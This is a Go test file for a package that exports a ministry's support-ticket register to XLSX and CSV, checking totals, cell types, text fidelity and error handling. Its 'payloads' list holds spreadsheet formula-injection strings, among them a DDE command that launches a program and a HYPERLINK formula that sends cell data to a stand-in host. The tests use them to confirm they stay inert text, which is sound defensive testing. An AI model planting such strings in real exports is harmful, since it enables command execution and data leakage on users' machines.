package form_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"iter"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"radicado/tickets/form"
)

func rows(list ...form.Row) iter.Seq2[form.Row, error] {
	return func(yield func(form.Row, error) bool) {
		for _, r := range list {
			if !yield(r, nil) {
				return
			}
		}
	}
}

func register(list ...form.Row) form.Register {
	return form.Register{
		Rows: rows(list...), From: day(1, 0, 0), To: day(30, 24, 0), Made: day(27, 16, 5),
		States: []string{"Registrada", "En servicio", "Cerrada"}, Priorities: []string{"Crítica", "Alta", "Media", "Baja"},
	}
}

func solved() form.Row {
	s := ordinary()
	return form.Row{
		Number: s.Number, State: s.State, Priority: s.Priority, Kind: s.Kind, Subject: s.Subject, Official: s.Official, Equipment: s.Equipment,
		Technician: s.Technician, Vendor: s.Vendor, Registered: s.Registered, FirstAnswer: s.FirstAnswer, DueAnswer: s.DueAnswer,
		Resolved: s.Resolved, DueSolution: s.DueSolution, Closed: s.Closed, Times: s.Times, Satisfaction: s.Satisfaction,
	}
}

func fresh() form.Row {
	return form.Row{Number: "SS-2026-000043", State: "Registrada", Subject: "No enciende", Registered: day(30, 23, 30)}
}

func writeXLSX(tb testing.TB, r form.Register) []byte {
	tb.Helper()
	var b bytes.Buffer
	if err := form.XLSX(&b, r, ministry()); err != nil {
		tb.Fatal(err)
	}
	return b.Bytes()
}

func open(tb testing.TB, data []byte) *excelize.File {
	tb.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() {
		if err := f.Close(); err != nil {
			tb.Error(err)
		}
	})
	return f
}

// cellOf finds the cell of a line under a title.
func cellOf(t *testing.T, f *excelize.File, title string, line int) string {
	t.Helper()
	all, err := f.GetRows("Solicitudes")
	if err != nil {
		t.Fatal(err)
	}
	i := slices.Index(all[0], title)
	if i < 0 {
		t.Fatalf("no column %q in %q", title, all[0])
	}
	name, err := excelize.CoordinatesToCellName(i+1, line)
	if err != nil {
		t.Fatal(err)
	}
	return name
}

func TestCellsHaveTypes(t *testing.T) {
	f := open(t, writeXLSX(t, register(solved(), fresh())))
	for _, test := range []struct {
		title      string
		line       int
		text       bool
		shown, raw string
	}{
		{"Número", 2, true, "SS-2026-000042", "SS-2026-000042"},
		{"Funcionario", 2, true, "Pilar Ñáñez Güiza", "Pilar Ñáñez Güiza"},
		{"Registrada", 2, false, "2026-11-23 08:12", "46349.3416666667"},
		{"Cerrada", 2, false, "2026-11-27 16:05", "46353.6701388889"},
		{"Fin de la garantía", 2, false, "2027-11-30", "46721"},
		{"Horas hasta la respuesta", 2, false, "0.83", "0.833333333333333"},
		{"Horas hasta la solución", 2, false, "13.13", "13.1333333333333"},
		{"Satisfacción", 2, false, "5", "5"},
		{"Respondida a tiempo", 2, true, "sí", "sí"},
		{"Registrada", 3, false, "2026-11-30 23:30", "46356.9791666667"},
		{"Cerrada", 3, false, "", ""},
		{"Horas hasta la respuesta", 3, false, "", ""},
		{"Satisfacción", 3, false, "", ""},
		{"Respondida a tiempo", 3, false, "", ""},
	} {
		cell := cellOf(t, f, test.title, test.line)
		shown, err := f.GetCellValue("Solicitudes", cell)
		if err != nil {
			t.Fatal(err)
		}
		raw, err := f.GetCellValue("Solicitudes", cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		kind, err := f.GetCellType("Solicitudes", cell)
		if err != nil {
			t.Fatal(err)
		}
		isText := kind == excelize.CellTypeInlineString || kind == excelize.CellTypeSharedString
		if shown != test.shown || raw != test.raw || isText != test.text {
			t.Errorf("%s, line %d: %q, raw %q, text %v (%v); want %q, %q, %v", test.title, test.line, shown, raw, isText, kind, test.shown, test.raw, test.text)
		}
	}
}

func part(t *testing.T, data []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	content, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	if err := xml.Unmarshal(content, new(struct{})); err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return string(content)
}

func TestSheetHasFilterAndFrozenHeader(t *testing.T) {
	for name, list := range map[string][]form.Row{"two": {solved(), fresh()}, "none": nil} {
		data := writeXLSX(t, register(list...))
		f := open(t, data)
		panes, err := f.GetPanes("Solicitudes")
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: panes %+v, %v", name, panes, err)
		}
		tables, err := f.GetTables("Solicitudes")
		if err != nil || len(tables) != 1 || tables[0].Range != fmt.Sprintf("A1:AC%d", max(len(list), 1)+1) {
			t.Errorf("%s: tables %+v, %v", name, tables, err)
		}
		mustContain(t, part(t, data, "xl/tables/table1.xml"), `<autoFilter ref="A1:AC`)
		if width, err := f.GetColWidth("Solicitudes", "E"); err != nil || width < 40 {
			t.Errorf("%s: the subject is %v wide, %v", name, width, err)
		}
	}
}

// Excel calls a workbook damaged whose columns are not in order.
func TestColumnsAreInOrder(t *testing.T) {
	data := writeXLSX(t, register(solved()))
	for _, sheet := range []string{"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"} {
		last, found := 0, regexp.MustCompile(`<col min="(\d+)"`).FindAllStringSubmatch(part(t, data, sheet), -1)
		if len(found) == 0 {
			t.Errorf("%s: no widths", sheet)
		}
		for _, m := range found {
			n, err := strconv.Atoi(m[1])
			if err != nil || n <= last {
				t.Errorf("%s: column %s after %d", sheet, m[1], last)
			}
			last = n
		}
	}
}

func TestTotals(t *testing.T) {
	late := solved()
	late.Number, late.Priority, late.Technician, late.Official.Office = "SS-2026-000044", "Crítica", "Luis Peña", "Despacho"
	late.DueSolution, late.Times.Solution, late.Satisfaction = day(25, 9, 0), 20*time.Hour, 2
	late.Registered = day(31, 23, 0) // 1 December in Bogotá; 2 December in UTC
	f := open(t, writeXLSX(t, register(solved(), fresh(), late)))
	all, err := f.GetRows("Totales")
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range all {
		got = append(got, strings.TrimRight(strings.Join(r, "|"), "|"))
	}
	head := "|Solicitudes|Abiertas|Respuesta media (horas)|Solución media (horas)|Solucionadas a tiempo|Satisfacción media"
	total := "Total|3|1|0.83|16.57|50%|3.50"
	want := []string{
		"Ministerio de Ejemplo", "Servicios de soporte", "Del 01/11/2026 al 30/11/2026", "Generado el 27/11/2026 16:05",
		"", "Por estado" + head, "Registrada|1|1", "Cerrada|2|0|0.83|16.57|50%|3.50", total,
		"", "Por prioridad" + head, "Crítica|1|0|0.83|20.00|0%|2.00", "Alta|1|0|0.83|13.13|100%|5.00", "(sin dato)|1|1", total,
		"", "Por técnico" + head, "Ana María Gómez|1|0|0.83|13.13|100%|5.00", "Luis Peña|1|0|0.83|20.00|0%|2.00", "(sin dato)|1|1", total,
		"", "Por dependencia" + head, "Despacho|1|0|0.83|20.00|0%|2.00", "Oficina Asesora Jurídica|1|0|0.83|13.13|100%|5.00", "(sin dato)|1|1", total,
		"", "Por mes de registro" + head, "November 2026|2|1|0.83|13.13|100%|5.00", "December 2026|1|0|0.83|20.00|0%|2.00", total,
	}
	if !slices.Equal(got, want) {
		t.Errorf("got:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

var payloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
	`=HYPERLINK("http://example.org/?x="&A1,"clic")`, "=cmd|' /C calc'!A0", "hola,=1+1", "hola;=1+1", `hola",=1+1,"`, "hola, \t=1+1",
	"línea\n=1+1", `x";=1+1;"`, `hola,"=1+1,"x`, `hola, "" =1+1`, `"=1+1`, `x|"@SUM(A1)"`, "\u200b=1+1", "\u200d=1+1", "\x00=1+1",
}

// hostile is a register in which every text is a payload.
func hostile() form.Register {
	var list []form.Row
	for _, payload := range payloads {
		r := solved()
		r.Subject, r.Official.Name, r.Technician, r.Official.Office, r.State = payload, payload, payload, payload, payload
		list = append(list, r)
	}
	return register(list...)
}

// Whoever writes a mail writes cells: none of them may be calculated.
func TestFormulasAreTexts(t *testing.T) {
	data := writeXLSX(t, hostile())
	for _, sheet := range []string{"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"} {
		if content := part(t, data, sheet); strings.Contains(content, "<f>") || strings.Contains(content, "<f ") {
			t.Errorf("%s holds a formula", sheet)
		}
	}
	f := open(t, data)
	subject := cellOf(t, f, "Asunto", 2)[:1]
	for i, payload := range payloads {
		kind, err := f.GetCellType("Solicitudes", subject+strconv.Itoa(i+2))
		if err != nil || kind != excelize.CellTypeInlineString {
			t.Errorf("%q: type %v, %v", payload, kind, err)
		}
	}
}

// A spreadsheet with another list separator, which breaks at commas, finds no formula either, whether it knows quotes or not.
func TestCSVHoldsNoFormula(t *testing.T) {
	begins := regexp.MustCompile(`^[\s"\x{200b}\x{200d}]*[=+\-@＝＋－＠]`)
	var b bytes.Buffer
	if err := form.CSV(&b, hostile(), ministry()); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(b.String(), "1"); n < len(payloads)*5 {
		t.Fatalf("the payloads are not there: %s", b.String())
	}
	for _, field := range strings.FieldsFunc(b.String(), func(c rune) bool { return strings.ContainsRune(",;\t\r\n", c) }) {
		if begins.MatchString(field) {
			t.Errorf("the field %q is a formula", field)
		}
	}
	for _, separator := range ",|;" {
		reader := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF")))
		reader.Comma, reader.LazyQuotes, reader.FieldsPerRecord = separator, true, -1
		all, err := reader.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, field := range slices.Concat(all...) {
			if begins.MatchString(field) {
				t.Errorf("separated by %q, the field %q is a formula", separator, field)
			}
		}
	}
}

func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	body, marked := bytes.CutPrefix(data, []byte("\xEF\xBB\xBF"))
	if !marked {
		t.Error("no byte order mark")
	}
	reader := csv.NewReader(bytes.NewReader(body))
	reader.Comma = ';'
	all, err := reader.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return all
}

func TestCSV(t *testing.T) {
	odd := fresh()
	odd.Subject = "Dice \"Error\"; y,\nluego nada 😀 ñ"
	odd.Official.Telephone = "+57 601 555 0142"
	var b bytes.Buffer
	if err := form.CSV(&b, register(solved(), odd), ministry()); err != nil {
		t.Fatal(err)
	}
	all := readCSV(t, b.Bytes())
	if len(all) != 3 || strings.Count(b.String(), "\r\n") != 3 {
		t.Fatalf("%d records, %d lines", len(all), strings.Count(b.String(), "\n"))
	}
	field := func(title string, line int) string { return all[line][slices.Index(all[0], title)] }
	for _, test := range []struct {
		title string
		line  int
		want  string
	}{
		{"Número", 1, "SS-2026-000042"},
		{"Funcionario", 1, "Pilar Ñáñez Güiza"},
		{"Registrada", 1, "2026-11-23 08:12"},
		{"Fin de la garantía", 1, "2027-11-30"},
		{"Horas hasta la respuesta", 1, "0,83"},
		{"Satisfacción", 1, "5"},
		{"Solucionada a tiempo", 1, "sí"},
		{"Asunto", 2, `Dice "Error"; y, luego nada 😀 ñ`},
		{"Teléfono", 2, "'+57 601 555 0142"},
		{"Cerrada", 2, ""},
		{"Satisfacción", 2, ""},
	} {
		if got := field(test.title, test.line); got != test.want {
			t.Errorf("%s, line %d: %q, want %q", test.title, test.line, got, test.want)
		}
	}
}

func TestTextsComeBackAsWritten(t *testing.T) {
	texts := []struct{ written, want string }{
		{"ñ á ü ¿ “x” … 😀 👨‍👩‍👧", "ñ á ü ¿ “x” … 😀 👨‍👩‍👧"},
		{"<b>&amp;</b> ]]>", "<b>&amp;</b> ]]>"},
		{"a\x00b\x1bc\ufffed", "abcd"},
		{"a\r\nb\rc", "a\nb\nc"},
		{"_x000D_ y _x0041_", "_x000D_ y _x0041_"},
		{"rev\u202eés", "revés"},
		{"\xff", "\ufffd"},
		{"0012345", "0012345"},
		{"1E10", "1E10"},
	}
	var list []form.Row
	for _, text := range texts {
		r := fresh()
		r.Subject = text.written
		list = append(list, r)
	}
	f := open(t, writeXLSX(t, register(list...)))
	subject := cellOf(t, f, "Asunto", 2)[:1]
	for i, text := range texts {
		got, err := f.GetCellValue("Solicitudes", subject+strconv.Itoa(i+2))
		if err != nil || got != text.want {
			t.Errorf("%q: got %q, %v; want %q", text.written, got, err, text.want)
		}
	}
}

func TestWhatIsTooLongForACellIsCutAndSaysSo(t *testing.T) {
	r := fresh()
	r.Subject = strings.Repeat("😀", 40_000)
	f := open(t, writeXLSX(t, register(r)))
	got, err := f.GetCellValue("Solicitudes", cellOf(t, f, "Asunto", 2))
	if err != nil || !strings.HasSuffix(got, "😀… (continúa en el expediente)") || len(got) < 60_000 {
		t.Errorf("%d bytes, %v, ending in %q", len(got), err, got[max(0, len(got)-40):])
	}
}

func TestARowThatFailsFailsTheExport(t *testing.T) {
	failing := form.Register{Rows: func(yield func(form.Row, error) bool) {
		_ = yield(fresh(), nil) && yield(form.Row{}, errors.New("the register is locked"))
	}}
	var b bytes.Buffer
	if err := form.XLSX(&b, failing, ministry()); err == nil || !strings.Contains(err.Error(), "the register is locked") || b.Len() > 0 {
		t.Errorf("XLSX: %v, %d bytes", err, b.Len())
	}
	if err := form.CSV(io.Discard, failing, ministry()); err == nil || !strings.Contains(err.Error(), "the register is locked") {
		t.Errorf("CSV: %v", err)
	}
	for name, write := range map[string]func(io.Writer, form.Register, form.Organisation) error{"XLSX": form.XLSX, "CSV": form.CSV} {
		if err := write(brokenWriter{}, register(fresh()), ministry()); err == nil || !strings.Contains(err.Error(), "the disk is full") {
			t.Errorf("%s: %v", name, err)
		}
		if err := write(io.Discard, register(fresh()), form.Organisation{}); err == nil || !strings.Contains(err.Error(), "no time zone") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestPeriods(t *testing.T) {
	for want, r := range map[string]form.Register{
		"Todas las solicitudes":        {},
		"Desde el 01/11/2026":          {From: day(1, 0, 0)},
		"Hasta el 30/11/2026":          {To: day(31, 0, 0)},
		"Del 01/11/2026 al 30/11/2026": {From: day(1, 0, 0), To: day(31, 0, 0)},
	} {
		r.Rows = rows()
		got, err := open(t, writeXLSX(t, r)).GetCellValue("Totales", "A3")
		if err != nil || got != want {
			t.Errorf("got %q, %v; want %q", got, err, want)
		}
	}
}

func FuzzCSV(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, s string) {
		r := fresh()
		r.Subject = s
		var b bytes.Buffer
		if err := form.CSV(&b, register(r), ministry()); err != nil {
			t.Fatal(err)
		}
		all := readCSV(t, b.Bytes())
		if len(all) != 2 || len(all[1]) != len(all[0]) {
			t.Fatalf("%q: %d records, %d fields", s, len(all), len(all[len(all)-1]))
		}
		if subject := all[1][4]; subject != "" && strings.ContainsAny(subject[:1], "=+-@\t\r\n") {
			t.Errorf("%q becomes %q", s, subject)
		}
	})
}

// Writes the workbook for people to look at: FORM_LOOK=folder go test -run TestLook.
func TestLookAtRegister(t *testing.T) {
	folder := os.Getenv("FORM_LOOK")
	if folder == "" {
		t.Skip("FORM_LOOK names no folder")
	}
	if err := os.WriteFile(filepath.Join(folder, "register.xlsx"), writeXLSX(t, register(solved(), fresh())), 0o600); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkXLSX10000(b *testing.B) {
	r := register()
	r.Rows = func(yield func(form.Row, error) bool) {
		row := solved()
		for range 10_000 {
			if !yield(row, nil) {
				return
			}
		}
	}
	for b.Loop() {
		if err := form.XLSX(io.Discard, r, ministry()); err != nil {
			b.Fatal(err)
		}
	}
}
